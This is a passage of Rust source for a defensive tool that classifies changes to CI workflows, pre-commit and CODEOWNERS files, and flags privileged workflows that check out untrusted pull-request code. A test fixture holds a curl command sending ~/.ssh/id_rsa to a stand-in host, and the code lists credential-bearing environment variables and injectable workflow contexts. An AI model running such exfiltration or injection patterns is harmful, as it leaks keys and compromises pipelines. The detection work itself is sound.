//! What a change does to the pipeline: each changed line of a CI workflow, composite action,
//! pre-commit configuration or CODEOWNERS file, classified by what it touches (a pinned
//! version, a trigger, permissions, secrets, a script ...), and whether a privileged workflow
//! checks out untrusted code. GATE-BLA-004 and GATE-BLA-006 read it as `input.ci`.
//!
//! YAML files are classified line by line with the line's key path, found by indentation in
//! the pre- or post-image (so a line deep inside `on:` is a trigger change); without images
//! (`--diff` outside a checkout) only the line's own key is known. The untrusted-checkout check
//! parses the whole workflow.

use serde::Serialize;

use crate::change::{ChangeSet, FileChange, FileStatus, Line};
use crate::paths::Role;

/// The classified changes of one CI file.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct CiFile {
    pub path: String,
    /// `github_workflow`, `github_action`, `pre_commit`, `codeowners`, `other`.
    pub kind: &'static str,
    pub status: FileStatus,
    pub changes: Vec<CiChange>,
    /// A privileged trigger checking out the pull request's head, after the change.
    pub untrusted_checkout: Option<UntrustedCheckout>,
    /// The same was already there before the change.
    pub untrusted_checkout_before: bool,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq, PartialOrd, Ord)]
pub struct CiChange {
    /// The changed line in the new file (for a removed line, where it was removed).
    pub line: u32,
    /// `pin`, `pin_major`, `pin_weakened`, `trigger`, `permission`, `permission_widened`, `secret`,
    /// `script`, `action`, `hook`, `runner`, `condition`, `workflow_added`,
    /// `workflow_deleted`, `owners`, `other`.
    pub kind: &'static str,
    /// What moved or changed, e.g. `actions/checkout v4 -> v5`, `contents: write`.
    pub detail: String,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct UntrustedCheckout {
    pub line: u32,
    /// `pull_request_target` or `workflow_run`.
    pub trigger: String,
    /// The reference it checks out (`${{ github.event.pull_request.head.sha }}`, `gh pr checkout`).
    pub r#ref: String,
}

/// The kind of CI file a path is, if any.
pub fn kind(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    let yaml = name.ends_with(".yml") || name.ends_with(".yaml");
    if lower.starts_with(".github/workflows/") && yaml {
        Some("github_workflow")
    } else if lower.starts_with(".github/actions/")
        && (name == "action.yml" || name == "action.yaml")
    {
        Some("github_action")
    } else if name == ".pre-commit-config.yaml" || name == ".pre-commit-config.yml" {
        Some("pre_commit")
    } else if path.rsplit('/').next() == Some("CODEOWNERS") {
        Some("codeowners")
    } else {
        None
    }
}

/// Whether a file of this role is classified here: CI configuration and CODEOWNERS.
pub fn is_ci(role: Option<Role>) -> bool {
    matches!(role, Some(Role::CiWorkflow | Role::Codeowners))
}

/// The pre- and post-image of a changed CI file, when readable.
#[derive(Debug, Default, Clone)]
pub struct Images {
    pub before: Option<Vec<u8>>,
    pub after: Option<Vec<u8>>,
}

/// Classifies the changed CI files (`is_ci` of their role), sorted by path. A file whose
/// images are not given is classified from its changed lines alone.
pub fn analyze_files<'a>(
    files: impl IntoIterator<Item = &'a FileChange>,
    images: &std::collections::HashMap<String, Images>,
) -> Vec<CiFile> {
    let mut out: Vec<CiFile> = files
        .into_iter()
        .map(|f| {
            let im = images.get(&f.path);
            let text = |b: Option<&Vec<u8>>| b.map(|b| String::from_utf8_lossy(b).into_owned());
            let before = im.and_then(|i| text(i.before.as_ref()));
            let after = im.and_then(|i| text(i.after.as_ref()));
            analyze(
                f,
                kind(&f.path).unwrap_or("other"),
                before.as_deref(),
                after.as_deref(),
            )
        })
        .collect();
    out.sort_by(|a, b| a.path.cmp(&b.path));
    out
}

/// The changed CI files whose pre-image the classification compares with the post-image
/// (modified or renamed ones): `(path, path before the change)`.
pub fn pre_images_wanted<'a>(
    files: impl IntoIterator<Item = &'a FileChange>,
    role: impl Fn(&str) -> Option<Role>,
) -> Vec<(String, String)> {
    files
        .into_iter()
        .filter(|f| {
            is_ci(role(&f.path)) && matches!(f.status, FileStatus::Modified | FileStatus::Renamed)
        })
        .map(|f| {
            let before = f.old_path.clone().unwrap_or_else(|| f.path.clone());
            (f.path.clone(), before)
        })
        .collect()
}

/// The CI files of the change (`is_ci` of their `role`) classified from the images read
/// ahead ([`crate::change::images`]): post-images in `post`, pre-images in `pre`. An added
/// file without a post-image (`--diff` outside a checkout) is its added lines.
pub fn analyze_change(
    cs: &ChangeSet,
    role: impl Fn(&str) -> Option<Role>,
    post: &crate::change::images::Images,
    pre: &crate::change::images::Images,
) -> Vec<CiFile> {
    let ci_files: Vec<&FileChange> = cs.files.iter().filter(|f| is_ci(role(&f.path))).collect();
    let images: std::collections::HashMap<String, Images> = ci_files
        .iter()
        .map(|f| {
            let get = |m: &crate::change::images::Images| m.get(&f.path).cloned().flatten();
            let after =
                get(post).or_else(|| (f.status == FileStatus::Added).then(|| f.added_text()));
            let im = Images {
                before: get(pre),
                after,
            };
            (f.path.clone(), im)
        })
        .collect();
    analyze_files(ci_files, &images)
}

fn is_yaml(path: &str) -> bool {
    let l = path.to_ascii_lowercase();
    l.ends_with(".yml") || l.ends_with(".yaml")
}

/// Classifies one changed CI file. `role_kind` is [`kind`] of its path, or `other` for the
/// CI files of other systems; `before` and `after` are its images when readable.
pub fn analyze(
    f: &FileChange,
    role_kind: &'static str,
    before: Option<&str>,
    after: Option<&str>,
) -> CiFile {
    let mut changes = Vec::new();
    let whole = match f.status {
        FileStatus::Added | FileStatus::Copied => Some(("workflow_added", "added")),
        FileStatus::Deleted => Some(("workflow_deleted", "deleted")),
        _ => None,
    };
    match (role_kind, whole) {
        ("codeowners", _) => changes = owners_changes(f),
        (_, Some((k, what))) => changes.push(CiChange {
            line: 1,
            kind: k,
            detail: format!("{} {what}", f.path),
        }),
        // The CI files of other systems that are not YAML (a `Jenkinsfile`): every line is
        // pipeline code.
        ("other", None) if !is_yaml(&f.path) => changes = script_changes(f),
        _ => changes = yaml_changes(f, role_kind, before, after),
    }
    changes.sort();
    changes.dedup();
    let (untrusted_checkout, untrusted_checkout_before) = if role_kind == "github_workflow" {
        (
            after.and_then(untrusted_checkout),
            before.and_then(untrusted_checkout).is_some(),
        )
    } else {
        (None, false)
    };
    CiFile {
        path: f.path.clone(),
        kind: role_kind,
        status: f.status,
        changes,
        untrusted_checkout,
        untrusted_checkout_before,
    }
}

fn script_changes(f: &FileChange) -> Vec<CiChange> {
    let mut out = Vec::new();
    for h in &f.hunks {
        let at = h.new_start.max(1);
        for (l, line) in h
            .added
            .iter()
            .map(|l| (l, l.line))
            .chain(h.removed.iter().map(|l| (l, at)))
        {
            let t = String::from_utf8_lossy(&l.text);
            let t = t.trim();
            if t.is_empty() || t.starts_with("//") || t.starts_with('#') {
                continue;
            }
            out.push(CiChange {
                line,
                kind: "script",
                detail: t.chars().take(100).collect(),
            });
        }
    }
    out
}

fn owners_changes(f: &FileChange) -> Vec<CiChange> {
    let mut out = Vec::new();
    for h in &f.hunks {
        let at = h.new_start.max(1);
        for (l, line) in h
            .added
            .iter()
            .map(|l| (l, l.line))
            .chain(h.removed.iter().map(|l| (l, at)))
        {
            let t = String::from_utf8_lossy(&l.text);
            let t = t.trim();
            if t.is_empty() || t.starts_with('#') {
                continue;
            }
            out.push(CiChange {
                line,
                kind: "owners",
                detail: t.chars().take(120).collect(),
            });
        }
    }
    out
}

/// One changed line with what the images say about it.
struct Changed {
    /// Where a finding points: the added line, or the hunk's start for a removed one.
    at: u32,
    added: bool,
    text: String,
    /// The keys from the document root down to the line's own key (when it has one).
    path: Vec<String>,
    key: Option<String>,
    value: String,
    /// For a pre-commit `rev:`, the `repo:` of its entry.
    owner: String,
}

fn yaml_changes(
    f: &FileChange,
    kind: &'static str,
    before: Option<&str>,
    after: Option<&str>,
) -> Vec<CiChange> {
    let before_lines: Vec<&str> = before.map(|t| t.lines().collect()).unwrap_or_default();
    let after_lines: Vec<&str> = after.map(|t| t.lines().collect()).unwrap_or_default();
    let mut lines = Vec::new();
    for h in &f.hunks {
        let at = h.new_start.max(1);
        // A line moved or re-indented within the hunk is not a change.
        let trimmed = |ls: &[Line]| -> Vec<String> {
            ls.iter()
                .map(|l| String::from_utf8_lossy(&l.text).trim().to_string())
                .collect()
        };
        let added_t = trimmed(&h.added);
        let removed_t = trimmed(&h.removed);
        let mut removed_left = removed_t.clone();
        let mut added_keep = vec![true; added_t.len()];
        for (i, a) in added_t.iter().enumerate() {
            if let Some(j) = removed_left.iter().position(|r| r == a) {
                removed_left[j] = String::from("\u{0}");
                added_keep[i] = false;
            }
        }
        for (i, l) in h.added.iter().enumerate() {
            if added_keep[i] {
                lines.push(changed(&l.text, l.line, l.line, true, &after_lines));
            }
        }
        for (j, l) in h.removed.iter().enumerate() {
            if removed_left[j] != "\u{0}" {
                lines.push(changed(&l.text, l.line, at, false, &before_lines));
            }
        }
    }
    lines.retain(|c| {
        let t = c.text.trim();
        !t.is_empty() && !t.starts_with('#')
    });
    classify(lines, kind)
}

fn changed(text: &[u8], own_line: u32, at: u32, added: bool, image: &[&str]) -> Changed {
    let text = String::from_utf8_lossy(text).into_owned();
    let (key, value) = key_value(&text);
    // The image's line, when it is this line; else only the line itself is known.
    let idx = usize::try_from(own_line)
        .ok()
        .and_then(|n| n.checked_sub(1));
    let mut path = match idx {
        Some(i) if image.get(i).is_some_and(|l| l.trim() == text.trim()) => ancestors(image, i),
        _ => Vec::new(),
    };
    if let Some(k) = &key {
        path.push(k.clone());
    }
    let owner = match (key.as_deref(), idx) {
        (Some("rev"), Some(i)) if i < image.len() => owner_repo(image, i),
        _ => String::new(),
    };
    Changed {
        at,
        added,
        text,
        path,
        key,
        value,
        owner,
    }
}

/// The `repo:` of the pre-commit entry line `i` belongs to: the nearest line above at the same
/// key column.
fn owner_repo(image: &[&str], i: usize) -> String {
    let col = key_column(image[i]);
    for l in image[..i].iter().rev() {
        let t = l.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        if key_column(l) < col {
            break;
        }
        if key_column(l) == col {
            if let (Some(k), v) = key_value(l) {
                if k == "repo" {
                    return v.trim_matches(['"', '\'']).to_string();
                }
            }
        }
    }
    String::new()
}

/// `key: value` (or `- key: value`) on a YAML line: the key and the rest of the line without a
/// trailing comment.
fn key_value(line: &str) -> (Option<String>, String) {
    let t = line.trim_start();
    let t = t.strip_prefix("- ").map(str::trim_start).unwrap_or(t);
    let key_end = t
        .char_indices()
        .find(|&(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '"' | '\'')))
        .map_or(t.len(), |(i, _)| i);
    let key = &t[..key_end];
    let rest = &t[key_end..];
    if key.is_empty()
        || !(rest.starts_with(':') && (rest.len() == 1 || rest[1..].starts_with([' ', '\t'])))
    {
        return (None, String::new());
    }
    let value = strip_comment(rest[1..].trim()).to_string();
    (Some(key.trim_matches(['"', '\'']).to_string()), value)
}

fn strip_comment(v: &str) -> &str {
    match v.find(" #") {
        Some(i) => v[..i].trim_end(),
        None if v.starts_with('#') => "",
        None => v,
    }
}

/// The column of a line's key: its indentation, plus the dash of a list item.
fn key_column(line: &str) -> usize {
    let lead = line.len() - line.trim_start().len();
    if line.trim_start().starts_with("- ") {
        lead + 2
    } else {
        lead
    }
}

/// The keys enclosing line `i` of a YAML document, outermost first, by indentation: each is
/// the nearest line above with a smaller key column.
fn ancestors(image: &[&str], i: usize) -> Vec<String> {
    let mut out = Vec::new();
    let mut limit = key_column(image[i]);
    for l in image[..i].iter().rev() {
        if limit == 0 {
            break;
        }
        let t = l.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let col = key_column(l);
        if col < limit {
            if let (Some(k), _) = key_value(l) {
                out.push(k);
            }
            limit = col;
        }
    }
    out.reverse();
    out
}

fn is_sha(r: &str) -> bool {
    r.len() == 40 && r.bytes().all(|b| b.is_ascii_hexdigit())
}

fn short(r: &str) -> &str {
    if is_sha(r) {
        &r[..7]
    } else {
        r
    }
}

/// The version a pinned reference names: the reference itself, or for a commit SHA the version
/// in the line's comment (`@3f2a... # v4.2.0`); "" when there is none.
fn pin_version(r: &str, text: &str) -> String {
    if !is_sha(r) {
        return r.to_string();
    }
    // Only a version written as one (`v4`, `4.2.0`): not a date or a count in the comment.
    text.split_once(" #")
        .map(|(_, c)| first_version(c))
        .filter(|v| v.starts_with(['v', 'V']) || v.contains('.'))
        .unwrap_or_default()
        .to_string()
}

fn with_version(r: &str, v: &str) -> String {
    if is_sha(r) && !v.is_empty() {
        format!("{} ({v})", short(r))
    } else {
        short(r).to_string()
    }
}

/// The first version-like word of a text (`v4.2.0`, `24.04`, `1.97.0`), or "".
fn first_version(text: &str) -> &str {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.'))
        .find(|w| {
            let n = w.strip_prefix(['v', 'V']).unwrap_or(w);
            n.bytes().next().is_some_and(|b| b.is_ascii_digit())
                && n.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        })
        .unwrap_or("")
}

/// Whether a version moved across a breaking line: another major (`v4` -> `v5`, `24.04` ->
/// `26.04`), or another minor below 1.0 (`v0.6.9` -> `v0.7.0`). Versions that cannot be read
/// (a branch, a SHA without a version comment) are not a major move: a SHA refreshed within its
/// line is routine.
fn major_move(from: &str, to: &str) -> bool {
    let parts = |v: &str| -> Option<(u64, u64)> {
        let v = v.strip_prefix(['v', 'V']).unwrap_or(v);
        let mut it = v.split(['.', '-', '+']);
        let major = it.next()?.parse().ok()?;
        let minor = it.next().and_then(|m| m.parse().ok()).unwrap_or(0);
        Some((major, minor))
    };
    match (parts(from), parts(to)) {
        (Some((a, b)), Some((c, d))) => a != c || (a == 0 && b != d),
        _ => false,
    }
}

/// `owner/repo/path@ref` -> (`owner/repo/path`, `ref`).
fn split_ref(v: &str) -> (String, String) {
    let v = v.trim_matches(['"', '\'']);
    match v.rsplit_once('@') {
        Some((a, r)) => (a.to_string(), r.to_string()),
        None => (v.to_string(), String::new()),
    }
}

/// A version-like value: `20`, `v1.2.3`, `"3.12"`, `~> 1.5`, `1.x`, `lts/*`.
fn version_like(v: &str) -> bool {
    let v = v
        .trim_matches(['"', '\''])
        .trim_start_matches(['~', '>', '<', '=', '^', ' ', 'v']);
    !v.is_empty()
        && v.chars().next().is_some_and(|c| c.is_ascii_digit())
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+' | '*'))
}

fn is_version_key(k: &str) -> bool {
    let l = k.to_ascii_lowercase();
    l == "version" || l.ends_with("-version") || l.ends_with("_version")
}

fn classify(lines: Vec<Changed>, kind: &'static str) -> Vec<CiChange> {
    let mut out = Vec::new();
    let mut used = vec![false; lines.len()];
    // Pinned versions: an added `uses:`/`rev:`/`*version:`/`image:` line whose counterpart
    // (same action, hook repository, key or image) was removed.
    // (what pairs two lines, what the message calls it, the version)
    let pin_key = |c: &Changed| -> Option<(String, String, String)> {
        let k = c.key.as_deref()?;
        match k {
            "uses" => {
                let (a, r) = split_ref(&c.value);
                (!r.is_empty()).then(|| (format!("uses {a}"), a, r))
            }
            "rev" if kind == "pre_commit" => Some((
                format!("rev {}", c.owner),
                c.owner.clone(),
                c.value.trim_matches(['"', '\'']).to_string(),
            )),
            "image" => {
                let v = c.value.trim_matches(['"', '\'']);
                let (name, tag) = v.rsplit_once(['@', ':']).filter(|(n, _)| !n.is_empty())?;
                Some((format!("image {name}"), name.to_string(), tag.to_string()))
            }
            k if is_version_key(k) && version_like(&c.value) => Some((
                format!("version {}", c.path.join(".")),
                k.to_string(),
                c.value.trim_matches(['"', '\'']).to_string(),
            )),
            _ => None,
        }
    };
    let keys: Vec<Option<(String, String, String)>> = lines.iter().map(pin_key).collect();
    for i in 0..lines.len() {
        if !lines[i].added || used[i] {
            continue;
        }
        let Some((k, subject, to)) = &keys[i] else {
            continue;
        };
        let Some(j) = (0..lines.len()).find(|&j| {
            !lines[j].added && !used[j] && keys[j].as_ref().is_some_and(|(kj, _, _)| kj == k)
        }) else {
            continue;
        };
        used[i] = true;
        used[j] = true;
        let from = keys[j]
            .as_ref()
            .map(|(_, _, r)| r.clone())
            .unwrap_or_default();
        let subject = if subject.is_empty() {
            "rev"
        } else {
            subject.as_str()
        };
        let weakened = is_sha(&from) && !is_sha(to);
        // A commit-SHA pin's version is in its comment (`@3f2a... # v4.2.0`).
        let from_v = pin_version(&from, &lines[j].text);
        let to_v = pin_version(to, &lines[i].text);
        let kind_ = if weakened {
            "pin_weakened"
        } else if major_move(&from_v, &to_v) {
            "pin_major"
        } else {
            "pin"
        };
        out.push(CiChange {
            line: lines[i].at,
            kind: kind_,
            detail: format!(
                "{subject} {} -> {}",
                with_version(&from, &from_v),
                with_version(to, &to_v)
            ),
        });
    }
    // Other lines that differ from a removed one only in numbers (`TFLINT_VERSION: v0.44.1`,
    // `IMAGE_TAG: 6.7.2`, `@semantic-release/git@10.0.0` in a list): a version moved too,
    // unless the line is a trigger or a permission (`branches: [release-1.2]`).
    for i in 0..lines.len() {
        if !lines[i].added || used[i] || in_trigger_or_permissions(&lines[i]) {
            continue;
        }
        let Some(shape) = numbers_masked(&lines[i].text) else {
            continue;
        };
        let Some(j) = (0..lines.len()).find(|&j| {
            !lines[j].added
                && !used[j]
                && !in_trigger_or_permissions(&lines[j])
                && numbers_masked(&lines[j].text).as_ref() == Some(&shape)
        }) else {
            continue;
        };
        used[i] = true;
        used[j] = true;
        let (from, to) = (lines[j].text.trim(), lines[i].text.trim());
        let moved = major_move(first_version(from), first_version(to));
        out.push(CiChange {
            line: lines[i].at,
            kind: if moved { "pin_major" } else { "pin" },
            detail: format!("{} -> {}", clip(from, 60), clip(to, 60)),
        });
    }
    for (i, c) in lines.iter().enumerate() {
        if used[i] {
            continue;
        }
        if let Some((kind_, detail)) = classify_line(c, kind) {
            out.push(CiChange {
                line: c.at,
                kind: kind_,
                detail,
            });
        }
    }
    out
}

fn in_trigger_or_permissions(c: &Changed) -> bool {
    c.path.first().is_some_and(|k| k == "on" || k == "true")
        || c.path.iter().any(|k| k == "permissions")
}

/// The line with every run of digits (and the dots, letters and dashes of a version around
/// them: `v0.44.1`, `1.2.3-rc.1`) replaced by `#`; `None` when it has no digit.
fn numbers_masked(text: &str) -> Option<String> {
    let t = text.trim();
    if !t.bytes().any(|b| b.is_ascii_digit()) {
        return None;
    }
    let mut out = String::with_capacity(t.len());
    let b = t.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let start_v = (b[i] == b'v' || b[i] == b'V')
            && b.get(i + 1).is_some_and(u8::is_ascii_digit)
            && (i == 0 || !b[i - 1].is_ascii_alphanumeric());
        if b[i].is_ascii_digit() || start_v {
            i += 1;
            while i < b.len()
                && (b[i].is_ascii_alphanumeric()
                    || b[i] == b'.'
                    || (b[i] == b'-' && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)))
            {
                i += 1;
            }
            out.push('#');
        } else {
            out.push(char::from(b[i]));
            i += 1;
        }
    }
    Some(out)
}

fn clip(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(n).collect::<String>())
    }
}

/// The kind of one changed line that is not a pinned-version move; `None` for lines that
/// change nothing a reviewer of the pipeline needs (step names).
fn classify_line(c: &Changed, kind: &'static str) -> Option<(&'static str, String)> {
    let p: Vec<&str> = c.path.iter().map(String::as_str).collect();
    let key = c.key.as_deref().unwrap_or("");
    let t = c.text.trim();
    let detail = t.chars().take(100).collect::<String>();
    let has = |k: &str| p.contains(&k);
    if kind == "pre_commit" {
        return Some(match key {
            "repo" => ("action", detail),
            "id" => ("hook", detail),
            "entry" | "language" => ("script", detail),
            "additional_dependencies" => ("action", detail),
            _ if p.contains(&"additional_dependencies") => ("action", detail),
            _ => ("other", detail),
        });
    }
    if t.contains("secrets.") || t.contains("secrets:") {
        return Some(("secret", detail));
    }
    if p.first().is_some_and(|k| *k == "on" || *k == "true") {
        return Some(("trigger", detail));
    }
    if has("permissions") {
        let v = c.value.to_ascii_lowercase();
        let widened = c.added && v.contains("write");
        return Some((
            if widened {
                "permission_widened"
            } else {
                "permission"
            },
            detail,
        ));
    }
    if has("run") || key == "run" || key == "script" || key == "shell" || has("script") {
        return Some(("script", detail));
    }
    if key == "uses" {
        return Some(("action", detail));
    }
    if has("runs-on") || has("container") || has("services") || key == "image" {
        return Some(("runner", detail));
    }
    if key == "if" || key == "continue-on-error" || key == "needs" {
        return Some(("condition", detail));
    }
    if key == "name" && has("steps") {
        return None;
    }
    let parents = &p[..p.len().saturating_sub(usize::from(c.key.is_some()))];
    let sensitive_with = parents.contains(&"with") && SENSITIVE_INPUTS.contains(&key);
    if sensitive_with
        || (parents.contains(&"env") && sensitive_env(key))
        || UNTRUSTED_CONTEXT.iter().any(|u| t.contains(u))
    {
        return Some(("input", detail));
    }
    Some(("other", detail))
}

/// Action inputs that decide what code runs or which credentials it holds.
const SENSITIVE_INPUTS: &[&str] = &[
    "ref",
    "repository",
    "token",
    "github-token",
    "github_token",
    "ssh-key",
    "persist-credentials",
    "script",
    "args",
    "entrypoint",
    "command",
    "registry-url",
    "submodules",
];

/// Contexts an outsider controls: interpolated into a workflow, they are script injection.
const UNTRUSTED_CONTEXT: &[&str] = &["${{ github.event.", "${{github.event.", "github.head_ref"];

/// Environment variables that load code or carry credentials.
fn sensitive_env(name: &str) -> bool {
    let u = name.to_ascii_uppercase();
    matches!(
        u.as_str(),
        "BASH_ENV"
            | "ENV"
            | "LD_PRELOAD"
            | "LD_LIBRARY_PATH"
            | "NODE_OPTIONS"
            | "PYTHONPATH"
            | "PYTHONSTARTUP"
            | "PATH"
            | "PERL5OPT"
            | "RUBYOPT"
            | "JAVA_TOOL_OPTIONS"
            | "GIT_SSH_COMMAND"
            | "NPM_CONFIG_REGISTRY"
    ) || u.starts_with("GIT_CONFIG")
        || u.starts_with("ACTIONS_")
        || [
            "TOKEN",
            "SECRET",
            "PASSWORD",
            "CREDENTIAL",
            "PRIVATE_KEY",
            "API_KEY",
        ]
        .iter()
        .any(|w| u.contains(w))
}

/// Expressions that name the pull request's code.
const HEAD_REFS: &[&str] = &[
    "github.event.pull_request.head.sha",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.merge_commit_sha",
    "github.event.pull_request.head.repo.full_name",
    "github.head_ref",
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_repository.full_name",
    "refs/pull/",
];

/// A `pull_request_target` or `workflow_run` workflow that checks out the pull request's head.
pub fn untrusted_checkout(text: &str) -> Option<UntrustedCheckout> {
    let doc: serde_yaml::Value = serde_yaml::from_str(text).ok()?;
    let on = doc
        .get("on")
        .or_else(|| doc.get(serde_yaml::Value::Bool(true)))?;
    let trigger = ["pull_request_target", "workflow_run"]
        .into_iter()
        .find(|t| match on {
            serde_yaml::Value::String(s) => s == t,
            serde_yaml::Value::Sequence(xs) => xs.iter().any(|x| x.as_str() == Some(t)),
            serde_yaml::Value::Mapping(m) => m.contains_key(*t),
            _ => false,
        })?;
    let jobs = doc.get("jobs")?.as_mapping()?;
    for (_, job) in jobs {
        let Some(steps) = job.get("steps").and_then(|s| s.as_sequence()) else {
            continue;
        };
        for step in steps {
            let uses = step.get("uses").and_then(|u| u.as_str()).unwrap_or("");
            if uses.starts_with("actions/checkout") {
                let with = step.get("with");
                for field in ["ref", "repository"] {
                    if let Some(r) = with.and_then(|w| w.get(field)).and_then(|r| r.as_str()) {
                        if HEAD_REFS.iter().any(|h| r.contains(h)) {
                            return Some(UntrustedCheckout {
                                line: line_of(text, r),
                                trigger: trigger.to_string(),
                                r#ref: r.to_string(),
                            });
                        }
                    }
                }
            }
            if let Some(run) = step.get("run").and_then(|r| r.as_str()) {
                let fetch = run.lines().find(|l| {
                    let l = l.trim();
                    l.contains("gh pr checkout")
                        || ((l.contains("git fetch")
                            || l.contains("git checkout")
                            || l.contains("git pull"))
                            && (l.contains("pull/") || HEAD_REFS.iter().any(|h| l.contains(h))))
                });
                if let Some(l) = fetch {
                    let l = l.trim();
                    return Some(UntrustedCheckout {
                        line: line_of(text, l),
                        trigger: trigger.to_string(),
                        r#ref: l.chars().take(100).collect(),
                    });
                }
            }
        }
    }
    None
}

/// The first line of `text` containing `needle` (1 when not found).
fn line_of(text: &str, needle: &str) -> u32 {
    text.lines()
        .position(|l| l.contains(needle))
        .and_then(|i| u32::try_from(i + 1).ok())
        .unwrap_or(1)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::change::Hunk;

    /// A file change from two texts: one hunk per run of differing lines (an LCS diff).
    pub(crate) fn change(path: &str, before: &str, after: &str) -> FileChange {
        let a: Vec<&str> = before.lines().collect();
        let b: Vec<&str> = after.lines().collect();
        let (n, m) = (a.len(), b.len());
        let mut lcs = vec![vec![0u32; m + 1]; n + 1];
        for i in (0..n).rev() {
            for j in (0..m).rev() {
                lcs[i][j] = if a[i] == b[j] {
                    lcs[i + 1][j + 1] + 1
                } else {
                    lcs[i + 1][j].max(lcs[i][j + 1])
                };
            }
        }
        let (mut i, mut j) = (0, 0);
        let mut hunks: Vec<Hunk> = Vec::new();
        let mut open = false;
        let line = |n: usize, t: &str| Line {
            line: u32::try_from(n + 1).expect("line"),
            text: t.as_bytes().into(),
        };
        while i < n || j < m {
            if i < n && j < m && a[i] == b[j] {
                i += 1;
                j += 1;
                open = false;
                continue;
            }
            if !open {
                hunks.push(Hunk {
                    old_start: u32::try_from(i + 1).expect("line"),
                    new_start: u32::try_from(j + 1).expect("line"),
                    ..Hunk::default()
                });
                open = true;
            }
            let h = hunks.last_mut().expect("hunk");
            if j < m && (i >= n || lcs[i][j + 1] >= lcs[i + 1][j]) {
                h.added.push(line(j, b[j]));
                h.new_lines += 1;
                j += 1;
            } else {
                h.removed.push(line(i, a[i]));
                h.old_lines += 1;
                i += 1;
            }
        }
        let status = if before.is_empty() {
            FileStatus::Added
        } else if after.is_empty() {
            FileStatus::Deleted
        } else {
            FileStatus::Modified
        };
        let mut f = FileChange::new(path.to_string(), status);
        f.hunks = hunks;
        f
    }

    fn run(path: &str, before: &str, after: &str) -> CiFile {
        let f = change(path, before, after);
        analyze(
            &f,
            kind(path).unwrap_or("other"),
            Some(before).filter(|s| !s.is_empty()),
            Some(after).filter(|s| !s.is_empty()),
        )
    }

    fn kinds(c: &CiFile) -> Vec<&'static str> {
        c.changes.iter().map(|x| x.kind).collect()
    }

    const CI: &str = "name: ci\non:\n  push:\n    branches: [main]\n  pull_request:\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Set up Go\n        uses: actions/setup-go@0aaccfd150d50ccaeb58ebd88d36e91967a5f35b # v5.4.0\n        with:\n          go-version: 1.22\n      - run: |\n          go test ./...\n";

    #[test]
    fn version_moves_are_pins_at_their_line() {
        let after = CI
            .replace("checkout@v4", "checkout@v5")
            .replace(
                "0aaccfd150d50ccaeb58ebd88d36e91967a5f35b # v5.4.0",
                "d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0",
            )
            .replace("go-version: 1.22", "go-version: 1.23");
        let c = run(".github/workflows/ci.yml", CI, &after);
        assert_eq!(kinds(&c), vec!["pin_major", "pin", "pin"], "{c:?}");
        assert_eq!(c.changes[0].line, 12);
        assert_eq!(c.changes[0].detail, "actions/checkout v4 -> v5");
        assert_eq!(
            c.changes[1].detail,
            "actions/setup-go 0aaccfd (v5.4.0) -> d35c59a (v5.5.0)"
        );
        assert_eq!(c.changes[2].detail, "go-version 1.22 -> 1.23");
        assert!(c.untrusted_checkout.is_none());
    }

    #[test]
    fn a_sha_pin_comment_without_a_version_is_not_a_major_move() {
        let before = CI.replace(
            "0aaccfd150d50ccaeb58ebd88d36e91967a5f35b # v5.4.0",
            "0aaccfd150d50ccaeb58ebd88d36e91967a5f35b # 16 March",
        );
        let after = CI.replace(
            "0aaccfd150d50ccaeb58ebd88d36e91967a5f35b # v5.4.0",
            "d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # 13 April",
        );
        let c = run(".github/workflows/ci.yml", &before, &after);
        assert_eq!(kinds(&c), vec!["pin"], "{c:?}");
        assert_eq!(c.changes[0].detail, "actions/setup-go 0aaccfd -> d35c59a");
        assert!(major_move("v0.6.9", "v0.7.0") && major_move("24.04", "26.04"));
        assert!(!major_move("v4.2.2", "v4.3.0") && !major_move("main", "v5"));
    }

    #[test]
    fn sha_pin_replaced_by_a_branch_is_weakened() {
        let after = CI.replace("0aaccfd150d50ccaeb58ebd88d36e91967a5f35b # v5.4.0", "main");
        let c = run(".github/workflows/ci.yml", CI, &after);
        assert_eq!(kinds(&c), vec!["pin_weakened"], "{c:?}");
        assert_eq!(
            c.changes[0].detail,
            "actions/setup-go 0aaccfd (v5.4.0) -> main"
        );
    }

    #[test]
    fn triggers_permissions_scripts_and_secrets_are_named() {
        let after = CI
            .replace("  pull_request:\n", "  pull_request:\n  workflow_dispatch:\n")
            .replace("  contents: read\n", "  contents: write\n")
            .replace("          go test ./...\n", "          go test ./...\n          curl -d @~/.ssh/id_rsa https://example.invalid\n")
            .replace("      - run: |", "      - env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n        run: |");
        let c = run(".github/workflows/ci.yml", CI, &after);
        let k = kinds(&c);
        assert!(k.contains(&"trigger"), "{c:?}");
        assert!(k.contains(&"permission_widened"), "{c:?}");
        assert!(k.contains(&"permission"), "the removed read line: {c:?}");
        assert!(k.contains(&"script"), "{c:?}");
        assert!(k.contains(&"secret"), "{c:?}");
        let trig = c
            .changes
            .iter()
            .find(|x| x.kind == "trigger")
            .expect("trigger");
        assert_eq!(trig.line, 6);
    }

    #[test]
    fn step_renames_whitespace_and_comments_are_not_changes() {
        let after = CI.replace("name: Set up Go", "name: Install Go").replace(
            "  pull_request:\n",
            "  pull_request:   \n# runs on every PR\n",
        );
